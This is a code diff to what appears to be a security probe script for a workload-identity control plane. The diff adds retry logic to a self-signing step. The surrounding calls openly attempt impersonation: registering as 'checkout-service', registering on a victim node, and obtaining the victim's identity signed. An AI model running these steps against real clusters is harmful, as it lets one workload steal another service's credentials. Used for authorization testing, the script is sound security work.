@@ -45,11 +45,24 @@ async def sign(spiffe_id: str, node: str) -> str:
     return str(creds.spiffe_id)
 
 
+def sign_own() -> str:
+    """As a sidecar does: with two control-plane replicas behind the Service, registering
+    and signing may land on different ones (403 "not registered"): register again, retry."""
+    got = ""
+    for _ in range(30):
+        register(ME, NS, "thief")
+        got = asyncio.run(sign(OWN_ID, ME))
+        if got != "403":
+            return got
+        time.sleep(0.5)
+    return got
+
+
 out = {
     "register_self": register(ME, NS, "thief"),
+    "sign_self": sign_own(),
     "register_as_checkout": register(f"stolen-0.{NS}", "checkout", "checkout-service"),
     "register_victim_node": register(VICTIM_NODE, "checkout", "checkout-service"),
-    "sign_self": asyncio.run(sign(OWN_ID, ME)),
     "sign_victim_id_as_self": asyncio.run(sign(VICTIM_ID, ME)),
     "sign_as_victim_node": asyncio.run(sign(VICTIM_ID, VICTIM_NODE)),
 }
